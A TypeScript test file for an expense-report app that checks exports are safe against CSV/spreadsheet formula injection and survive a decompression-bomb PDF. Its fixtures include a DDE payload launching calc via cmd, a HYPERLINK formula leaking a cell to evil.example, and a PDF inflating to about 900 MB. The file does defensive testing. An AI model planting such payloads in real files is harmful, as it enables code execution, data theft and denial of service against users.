import { deflateSync } from 'node:zlib';
import { readXlsx } from 'hucre/xlsx';
import Papa from 'papaparse';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { wordsOfPdf } from '#backend/photos/pdf.ts';
import { newReport } from '#testing/data/expense-report.ts';
import { cellsOf } from '#testing/data/seen-row.ts';
import { pdfOf } from '#testing/receipts/pdf-papers.ts';
import { startServer, type TestServer, type TestUser } from '#testing/server/server.ts';
import { newExpense } from '../currencies.ts';
import { type PackChoice, packedName, packedRows } from '../pack.ts';
import { headed } from '../record.ts';

// What somebody may write into a report so that it runs in another program, or to crash this one.

let server: TestServer;
let user: TestUser;
beforeAll(async () => {
  server = await startServer();
  user = await server.newUser();
});
afterAll(() => server.stop());

const formula = `=cmd|' /C calc'!A0`;
const hostile = {
  description: formula,
  category: '@SUM(1+1)*cmd',
  notes: '=HYPERLINK("https://evil.example/?"&A1,"x")',
  receipt: '-2+3',
};
const everything: PackChoice = { order: 'oldest', perPage: '4', onlyWithReceipt: 'no' };

async function withFormula() {
  const report = await newReport(user);
  const row = await report.add({ ...hostile, amount: 12.5, date: '2026-11-03' });
  const bytes = await sharp({ create: { width: 300, height: 500, channels: 3, background: 'white' } })
    .jpeg()
    .toBuffer();
  const photo = new File([new Uint8Array(bytes)], `${formula}.jpg`, { type: 'image/jpeg' });
  const body = { expected: JSON.stringify(cellsOf(row)), sheetId: report.sheetId };
  await report.client.attachPhoto({ reportId: report.reportId, row: row._rowIndex, body, files: { photo } });
  const { reportId } = report;
  const exported = async (
    query: { format: 'csv' | 'xlsx' | 'hledger' | 'beancount' } & Partial<PackChoice>,
  ) =>
    Buffer.from(
      await (await user.send(report.client.addressOf.exportReport({ reportId, query }))).arrayBuffer(),
    );
  return { ...report, exported };
}

describe('a description that is a formula', () => {
  it('is text in the sheet, and comes back as it was', async () => {
    const { hand, sheetId, rows } = await withFormula();
    expect(await hand.entered(sheetId, 'Expenses!B2:C2')).toEqual([[formula, hostile.category]]);
    expect(await rows()).toMatchObject([{ Description: formula, Notes: hostile.notes }]);
  });

  it('is text in CSV, behind an apostrophe, and in XLSX, of the report and of a pack', async () => {
    const { exported } = await withFormula();
    for (const choice of [{}, everything]) {
      const csv = await exported({ format: 'csv', ...choice });
      const [, cells = []] = Papa.parse<string[]>(csv.toString('utf8')).data;
      expect(cells.slice(1, 3)).toEqual([`'${formula}`, `'${hostile.category}`]);
      expect(cells.filter((cell) => /^[=+\-@\t\r|%]/.test(cell))).toEqual([]);
      const [sheet] = (await readXlsx(await exported({ format: 'xlsx', ...choice }))).sheets;
      expect(sheet?.rows[1]?.slice(1, 3)).toEqual([formula, hostile.category]);
      expect([...(sheet?.cells?.values() ?? [])].filter((cell) => cell.formula !== undefined)).toEqual([]);
    }
  });

  it('is the title of a transaction in journals, and no line of its own', async () => {
    const { exported } = await withFormula();
    const hledger = (await exported({ format: 'hledger' })).toString();
    expect(hledger).toContain(`2026-11-03 * =cmd/' /C calc'!A0\n`);
    const beancount = (await exported({ format: 'beancount' })).toString();
    expect(beancount).toContain(`2026-11-03 * "=cmd|' /C calc'!A0"\n`);
    const lines = `${hledger}${beancount}`.split('\n');
    expect(lines.filter((line) => /^[=+\-@|%]|^include|^plugin/.test(line))).toEqual([]);
  });

  it('is print in a PDF that does nothing', async () => {
    const { client, reportId } = await withFormula();
    const answer = await user.send(client.addressOf.printPack({ reportId, query: everything }));
    const bytes = Buffer.from(await answer.arrayBuffer());
    const pages = await wordsOfPdf(new Uint8Array(bytes), new AbortController().signal);
    expect(pages.flatMap((words) => (words ?? []).map(({ text }) => text)).join(' ')).toContain('=cmd|');
    for (const deed of ['/JavaScript', '/JS', '/Launch', '/OpenAction', '/URI', '/EmbeddedFile'])
      expect(bytes.includes(deed), deed).toBe(false);
  });

  it('names a photo in a ZIP behind its day, without what a system takes for more than a name', async () => {
    const { client, reportId } = await withFormula();
    const data = await client.readReport({ reportId, query: {} });
    const [packed] = packedRows(
      { rows: data.rows.map((row) => headed.row.parse(row)), photos: data.photos },
      everything,
    );
    expect(packed?.photo).toBeDefined();
    expect(packed && packedName(packed, 'USD')).toBe(`2026-11-03 row 2 12.50 =cmd ' C calc'!A0.jpg`);
  });
});

const line = { date: '2026-11-03', category: '' };

describe('a rate', () => {
  it.each([0, -1.1])('of %d is refused by name, and nothing is written', async (rate) => {
    const report = await newReport(user);
    const refused = report.add({ description: 'Stay', amount: '', currency: 'EUR', paid: 414, rate });
    await expect(refused).rejects.toMatchObject({
      code: 'INVALID_INPUT',
      details: { fields: { rate: expect.any(String) } },
    });
    const many = report.client.addExpenses({
      reportId: report.reportId,
      body: {
        expenses: [
          newExpense.parse({ ...line, description: 'One', amount: 1 }),
          { ...newExpense.parse({ ...line, description: 'Two', amount: 4 }), currency: 'EUR', paid: 4, rate },
        ],
      },
    });
    await expect(many).rejects.toMatchObject({ code: 'INVALID_INPUT' });
    expect(await report.rows()).toEqual([]);
  });
});

it('a PDF that unpacks to a gigabyte is named in a pack that has all others', async () => {
  const report = await withFormula();
  const bomb = new Uint8Array(pdfOf(deflateSync(Buffer.alloc(900_000_000, ' '))));
  expect(bomb.length).toBeLessThan(1_500_000);
  const { photos } = await report.client.readReport({ reportId: report.reportId, query: {} });
  await report.hand.replaceContent(photos[0]?.id ?? '', bomb);
  await report.add({ description: 'Tram', amount: 3 });
  const answer = await user.send(
    report.client.addressOf.printPack({ reportId: report.reportId, query: everything }),
  );
  expect(answer.status).toBe(200);
  const pages = await wordsOfPdf(new Uint8Array(await answer.arrayBuffer()), new AbortController().signal);
  const words = pages.map((page) => (page ?? []).map(({ text }) => text).join(' ')).join(' ');
  expect(words).toContain('Tram');
  expect(words).toContain('Photos that could not be read');
});
